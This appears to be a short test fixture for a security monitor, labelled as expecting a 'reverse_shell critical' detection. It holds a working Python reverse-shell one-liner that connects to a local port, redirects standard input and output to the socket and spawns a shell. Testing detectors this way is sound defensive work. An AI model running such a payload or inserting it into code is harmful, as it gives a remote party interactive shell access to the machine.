# about: python spawns a terminal
# expect: reverse_shell critical
# needs: python3
peer 4415
timeout 6 python3 -c 'import socket,os,pty
s=socket.create_connection(("127.0.0.1",4415))
for fd in 0,1,2: os.dup2(s.fileno(),fd)
pty.spawn("sh")' || true
done_typing
